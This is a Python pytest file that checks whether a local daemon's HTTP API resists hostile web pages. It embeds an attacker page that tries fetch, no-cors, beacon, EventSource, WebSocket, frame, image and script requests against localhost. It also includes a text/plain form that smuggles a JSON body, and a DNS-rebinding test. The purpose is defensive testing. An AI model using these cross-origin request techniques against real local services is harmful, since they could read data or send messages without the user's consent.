"""Pages in a real browser against the daemon's port: whatever they try, nothing is read and nothing is done."""

import http.server
import json
import shutil
import subprocess
import threading
from pathlib import Path

import pytest
from household import Household, eventually
from local_api import LocalAPI

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")

# Every way of a page to ask something of another origin, with what it could read of the answer.
PAGE = """<!doctype html><title>attacker</title><body><script>
const api = API, token = TOKEN, seen = [];
const note = (what, text) => seen.push([what, String(text)]);
async function attempt(what, body) { try { note(what, await body()); } catch (error) { note(what, "refused: " + error); } }
const send = JSON.stringify({to: "laptop", message: "from a page"});
const settle = (element, set) => new Promise(resolve => {
  element.onload = () => resolve("loaded"); element.onerror = () => resolve("refused: error");
  setTimeout(() => resolve("refused: nothing came"), 2000); set(); });
(async () => {
  for (const base of [api, api.replace("127.0.0.1", "localhost")]) {
    for (const headers of [{}, {Authorization: "Bearer " + token}]) {
      await attempt("fetch", async () => (await fetch(base + "/v1/inbox", {headers})).text());
      await attempt("fetch post", async () => (await fetch(base + "/v1/send", {method: "POST", headers: {...headers, "Content-Type": "application/json"}, body: send})).text());
      await attempt("fetch simple", async () => (await fetch(base + "/v1/send", {method: "POST", headers, body: send})).text());
    }
    await attempt("no-cors get", async () => (await fetch(base + "/v1/health", {mode: "no-cors"})).text() || "refused: opaque");
    await attempt("no-cors post", async () => (await fetch(base + "/v1/send", {method: "POST", mode: "no-cors", body: send})).text() || "refused: opaque");
    await attempt("no-cors rotate", async () => (await fetch(base + "/v1/token/rotate", {method: "POST", mode: "no-cors"})).text() || "refused: opaque");
    await attempt("token in address", async () => (await fetch(base + "/v1/inbox?token=" + token)).text());
    await attempt("beacon", async () => { navigator.sendBeacon(base + "/v1/send", send); return "refused: nothing to read"; });
    await attempt("events", () => new Promise(resolve => {
      const source = new EventSource(base + "/v1/events?access_token=" + token);
      source.onopen = () => resolve("opened"); source.onmessage = event => resolve(event.data);
      source.onerror = () => { source.close(); resolve("refused: error"); } }));
    await attempt("socket", () => new Promise(resolve => {
      const socket = new WebSocket(base.replace("http", "ws") + "/v1/events");
      socket.onopen = () => resolve("opened"); socket.onerror = () => resolve("refused: error"); }));
    await attempt("image", () => { const image = new Image(); return settle(image, () => { image.src = base + "/v1/inbox"; }); });
    await attempt("script", () => { const script = document.createElement("script");
      return settle(script, () => { script.src = base + "/v1/inbox"; document.body.append(script); }); });
    await attempt("frame", async () => { const frame = document.createElement("iframe");
      await settle(frame, () => { frame.src = base + "/v1/inbox"; document.body.append(frame); });
      return frame.contentDocument ? frame.contentDocument.body.innerText || "refused: empty" : "refused: opaque"; });
    await attempt("form", async () => { const form = document.createElement("form"), name = "f" + seen.length;
      const frame = document.createElement("iframe"); frame.name = name; document.body.append(frame);
      form.method = "POST"; form.action = base + "/v1/send"; form.target = name; form.enctype = "text/plain";
      const field = document.createElement("input"); field.name = send.slice(0, -1) + ',"x":"'; field.value = '"}';
      form.append(field); document.body.append(form); await settle(frame, () => form.submit());
      return frame.contentDocument ? frame.contentDocument.body.innerText || "refused: empty" : "refused: opaque"; });
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
})();
</script>"""


class Attacker:
    """Serves the page under whatever name it is asked by, and keeps what the page reports."""

    def __init__(self, api: LocalAPI, token: str):
        page = PAGE.replace("API", json.dumps(api.url), 1).replace("TOKEN", json.dumps(token), 1).encode()
        self.reports: list[list] = []
        reports = self.reports

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page)

            def do_POST(self) -> None:
                reports.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *_: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def browse(profile: Path, url: str, *arguments: str) -> subprocess.Popen[str]:
    assert CHROMIUM is not None
    return subprocess.Popen(
        [CHROMIUM, "--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu", "--no-first-run",
         f"--user-data-dir={profile}", *arguments, url],
        stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
    )


@pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium: scripts/setup installs it")
def test_a_page_reads_nothing_and_does_nothing(house: Household, tmp_path: Path) -> None:
    house.serve()
    house.up("laptop")
    house.is_connected("laptop")
    api = LocalAPI(house, "laptop")
    before = api.token
    # The second page even knows the token.
    for number, token in enumerate(["x" * 43, api.token]):
        attacker = Attacker(api, token)
        browser = browse(tmp_path / f"profile{number}", f"http://attacker.localhost:{attacker.port}/")
        try:
            eventually("the page has tried everything", lambda: attacker.reports, 60)
        finally:
            browser.terminate()
            browser.wait(timeout=20)
            attacker.close()
        seen = attacker.reports[0]
        assert len(seen) >= 30
        for what, text in seen:
            # An image or a script that is no such thing never loads; a frame's content is another origin's.
            assert text.startswith("refused:") or text == "", (what, text)
    counts = api.refused()
    # They did ask: it was the daemon that refused.
    assert counts["origin_refused"] > 20
    health = api.ask("GET /v1/health").json
    assert health["inbox"]["messages"] == 0 and health["outbox"]["pending"] == 0
    assert api.ask("GET /v1/history").json["messages"] == []
    assert api.token == before


@pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium: scripts/setup installs it")
def test_a_name_that_was_made_to_point_here_is_refused(house: Household, tmp_path: Path) -> None:
    house.serve()
    house.up("laptop")
    api = LocalAPI(house, "laptop")
    browser = browse(
        tmp_path / "profile", f"http://rebound.example:{api.port}/v1/health", "--dump-dom",
        "--host-resolver-rules=MAP rebound.example 127.0.0.1",
    )
    page, _ = browser.communicate(timeout=60)
    assert "host_refused" in page and "broker" not in page
    assert api.refused()["host_refused"] > 0
